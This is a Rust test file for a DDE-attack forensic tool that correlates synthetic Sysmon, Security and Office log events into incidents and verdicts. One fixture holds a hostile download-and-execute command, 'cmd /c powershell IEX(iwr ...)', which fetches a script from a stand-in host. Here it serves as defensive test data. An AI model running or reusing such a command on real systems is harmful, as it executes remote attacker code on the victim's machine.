//! Correlation on hand-made rows: joins by GUID, by PID within one log, by time window; the
//! same process seen by two logs; settings explained or not; verdicts.

use super::model::{Stage, Verdict};
use super::*;
use crate::detect::{Event, EventFields};
use crate::profile::{Confidence, Severity};
use crate::time::Timestamp;

const T0: i64 = 1_714_985_980_000_000; // 2024-05-06T08:59:40Z

fn at(seconds: i64) -> Timestamp {
    Timestamp::from_unix_micros(T0 + seconds * 1_000_000).unwrap_or(Timestamp::UNIX_EPOCH)
}

pub(super) fn row(
    seconds: i64,
    data_type: &'static str,
    severity: Severity,
    path: &str,
    fields: EventFields,
) -> Event {
    let mut event = Event::new(
        "T1559.002",
        severity,
        data_type,
        format!("{data_type} at {seconds}"),
        (at(seconds), "Recorded Time"),
        "ev",
        path,
    );
    event.fields = fields;
    event.fields.computer_name = Some("wks-1.corp.example".to_owned());
    event.user = Some(r"CORP\dave".to_owned());
    event
}

pub(super) const SYSMON: &str = "C/Windows/System32/winevt/Logs/Sysmon.evtx";
pub(super) const SECURITY: &str = "C/Windows/System32/winevt/Logs/Security.evtx";

pub(super) fn start(
    seconds: i64,
    log: &str,
    rule: Option<&str>,
    image: &str,
    pid: u64,
    parent: (&str, u64),
    guids: Option<(&str, &str)>,
) -> Event {
    let mut event = row(
        seconds,
        "ddesweep:eventlog:process_start",
        if rule.is_some() {
            Severity::High
        } else {
            Severity::Info
        },
        log,
        EventFields {
            image: Some(image.to_owned()),
            command: Some(format!("{image} /c x")),
            process_id: Some(pid),
            parent_image: Some(parent.0.to_owned()),
            parent_process_id: Some(parent.1),
            process_guid: guids.map(|g| g.0.to_owned()),
            parent_process_guid: guids.map(|g| g.1.to_owned()),
            ..EventFields::default()
        },
    );
    if let Some(rule) = rule {
        event.rule_id = Some(rule.to_owned());
    }
    event
}

pub(super) fn document(path: &str) -> Event {
    let mut event = Event::new(
        "T1559.002",
        Severity::Critical,
        "ddesweep:document:dde_field",
        "DDEAUTO".to_owned(),
        (at(-3600), "Content Modification Time"),
        "ev",
        path,
    );
    event.fields.sha256 = Some("ab".repeat(32));
    event.fields.command =
        Some("cmd /c powershell IEX(iwr 'http://remit-portal.example/a.ps1')".to_owned());
    event
}

pub(super) fn analyse_rows(mut events: Vec<Event>) -> (Vec<Event>, model::Report) {
    events.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
    let profile = crate::profile::load("default").unwrap_or_else(|e| panic!("{e}"));
    let facts = [EvidenceFacts {
        label: "ev".to_owned(),
        ..EvidenceFacts::default()
    }];
    let report = analyse(&mut events, &facts, &profile);
    (events, report)
}

#[test]
fn security_children_join_by_pid_in_their_log_and_merge_with_sysmon() {
    let word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    let events = vec![
        document("C/Users/dave/Downloads/Remit.docx"),
        {
            let mut open = start(
                0,
                SYSMON,
                None,
                word,
                4412,
                ("OUTLOOK.EXE", 3880),
                Some(("{W}", "{O}")),
            );
            open.data_type = "ddesweep:eventlog:office_document_open";
            open.fields.document = Some(r"C:\Users\dave\Downloads\Remit.docx".to_owned());
            open
        },
        start(
            4,
            SYSMON,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5120,
            (word, 4412),
            Some(("{C}", "{W}")),
        ),
        start(
            4,
            SECURITY,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5120,
            (word, 4412),
            None,
        ),
        // The 4688 child of cmd: joined by PID in the Security log.
        start(
            5,
            SECURITY,
            Some("ddesweep.eventlog.office_descendant"),
            r"C:\Windows\System32\powershell.exe",
            6032,
            (r"C:\Windows\System32\cmd.exe", 5120),
            None,
        ),
        // A later process reusing PID 5120 in another log does not join.
        start(
            900,
            SYSMON,
            None,
            r"C:\Windows\System32\notepad.exe",
            7000,
            ("cmd.exe", 5120),
            Some(("{N}", "{X}")),
        ),
    ];
    let (events, report) = analyse_rows(events);
    assert_eq!(report.hosts.len(), 1);
    let host = &report.hosts[0];
    assert_eq!(host.host, "WKS-1");
    assert_eq!(host.verdict, Verdict::Escalate);
    assert_eq!(host.incidents.len(), 1, "{:#?}", host.incidents);
    let incident = &host.incidents[0];
    assert_eq!(incident.id, "WKS-1-1");
    assert_eq!(incident.confidence, Confidence::High);
    let stages: Vec<(Stage, &str)> = incident
        .rows
        .iter()
        .map(|r| (r.stage, r.data_type.as_str()))
        .collect();
    assert_eq!(
        stages,
        vec![
            (Stage::Document, "ddesweep:document:dde_field"),
            (Stage::Opened, "ddesweep:eventlog:office_document_open"),
            (Stage::Execution, "ddesweep:eventlog:process_start"),
            (Stage::Execution, "ddesweep:eventlog:process_start"),
            (Stage::Descendant, "ddesweep:eventlog:process_start"),
        ]
    );
    // One cmd.exe among the Office children (two logs, one process).
    assert_eq!(host.playbook.office_children.len(), 1);
    assert_eq!(
        host.playbook.office_children[0].process_guid.as_deref(),
        Some("{C}")
    );
    let notepad = events
        .iter()
        .find(|e| e.fields.image.as_deref() == Some(r"C:\Windows\System32\notepad.exe"));
    assert_eq!(notepad.and_then(|e| e.incident.as_deref()), None);
    assert!(
        events
            .iter()
            .filter(|e| e.incident.is_some())
            .all(|e| e.tags.iter().any(|t| t == ESCALATE_TAG))
    );
}

#[test]
fn a_child_without_identity_joins_the_document_opened_just_before() {
    let excel = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    let mut mru = row(
        0,
        "ddesweep:registry:office_mru",
        Severity::Info,
        "C/Users/dave/NTUSER.DAT",
        EventFields {
            document: Some(r"C:\Users\dave\Downloads\Remit.docx".to_owned()),
            ..EventFields::default()
        },
    );
    mru.fields.computer_name = None;
    let events = vec![
        document("C/Users/dave/Downloads/Remit.docx"),
        mru,
        start(
            60,
            SECURITY,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5120,
            (excel, 4000),
            None,
        ),
        // Outside the window: its own incident, no document.
        start(
            7200,
            SECURITY,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\mshta.exe",
            5200,
            (excel, 4100),
            None,
        ),
    ];
    let (_, report) = analyse_rows(events);
    let host = &report.hosts[0];
    let titles: Vec<(&str, Confidence)> = host
        .incidents
        .iter()
        .map(|i| (i.title.as_str(), i.confidence))
        .collect();
    assert_eq!(
        titles,
        vec![
            (
                "Remit.docx (unknown): WINWORD.EXE started cmd.exe",
                Confidence::Medium
            ),
            (
                "WINWORD.EXE started mshta.exe (no DDE document identified)",
                Confidence::Medium
            ),
        ]
    );
}

#[test]
fn settings_before_an_incident_are_explained_and_others_escalate() {
    let setting = |seconds: i64| {
        let mut event = row(
            seconds,
            "ddesweep:eventlog:registry_change",
            Severity::High,
            SYSMON,
            EventFields {
                registry_key: Some(
                    r"HKU\S-1\Software\Microsoft\Office\16.0\Word\Security\AllowDDE".to_owned(),
                ),
                value: Some("DWORD (0x00000001)".to_owned()),
                ..EventFields::default()
            },
        );
        event.rule_id = Some("ddesweep.eventlog.word_allow_dde".to_owned());
        event
    };
    let word = "WINWORD.EXE";
    // Only a setting: unexplained, escalate.
    let (_, report) = analyse_rows(vec![setting(0)]);
    assert_eq!(report.hosts[0].verdict, Verdict::Escalate);
    assert!(
        report.hosts[0].reasons[0]
            .text
            .starts_with("DDE-enabling setting changed with nothing to explain it")
    );
    assert!(!report.hosts[0].containment.settings_to_revert[0].explained);
    // The same setting two minutes before an Office child: explained by it.
    let (_, report) = analyse_rows(vec![
        setting(0),
        start(
            120,
            SYSMON,
            Some("ddesweep.eventlog.office_child"),
            "cmd.exe",
            1,
            (word, 2),
            Some(("{C}", "{W}")),
        ),
    ]);
    let host = &report.hosts[0];
    assert!(host.containment.settings_to_revert[0].explained);
    assert_eq!(host.incidents[0].rows[0].stage, Stage::EnablingSetting);
    // A dormant document alone: investigate, low confidence, not escalated.
    let (events, report) = analyse_rows(vec![document("C/Users/carol/Documents/Quote.docx")]);
    let host = &report.hosts[0];
    assert_eq!(host.verdict, Verdict::Investigate);
    assert_eq!(host.incidents[0].confidence, Confidence::Low);
    assert!(!host.incidents[0].escalate);
    assert_eq!(events[0].incident.as_deref(), Some("UNATTRIBUTED-E1-1"));
    assert!(!events[0].tags.iter().any(|t| t == ESCALATE_TAG));
    // Nothing at all: the evidence item still has its section, with no evidence.
    let (_, report) = analyse_rows(vec![]);
    assert_eq!(report.hosts.len(), 1);
    assert_eq!(report.hosts[0].verdict, Verdict::NoEvidence);
    assert_eq!(
        report.hosts[0].reasons[0].text,
        "No DDE findings on this host."
    );
}

#[test]
fn an_office_prompt_joins_the_chain_of_its_application() {
    let word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    let mut prompt = row(
        3,
        "ddesweep:eventlog:office_alert",
        Severity::Info,
        "C/Windows/System32/winevt/Logs/OAlerts.evtx",
        EventFields::default(),
    );
    prompt.message = "Microsoft Word prompted the user: This document contains links that may refer to other files. Remit.docx".to_owned();
    let mut excel_prompt = prompt.clone();
    excel_prompt.message =
        "Microsoft Excel prompted the user: Remote data not accessible".to_owned();
    let (events, report) = analyse_rows(vec![
        start(
            4,
            SYSMON,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5000,
            (word, 4000),
            Some(("{C}", "{W}")),
        ),
        prompt,
        excel_prompt,
    ]);
    let incident = &report.hosts[0].incidents[0];
    let stages: Vec<(Stage, &str)> = incident
        .rows
        .iter()
        .map(|r| (r.stage, r.data_type.as_str()))
        .collect();
    assert_eq!(
        stages,
        [
            (Stage::Opened, "ddesweep:eventlog:office_alert"),
            (Stage::Execution, "ddesweep:eventlog:process_start"),
        ]
    );
    let excel = events
        .iter()
        .find(|e| e.message.starts_with("Microsoft Excel"))
        .and_then(|e| e.incident.as_deref());
    assert_eq!(excel, None);
}

mod regressions;
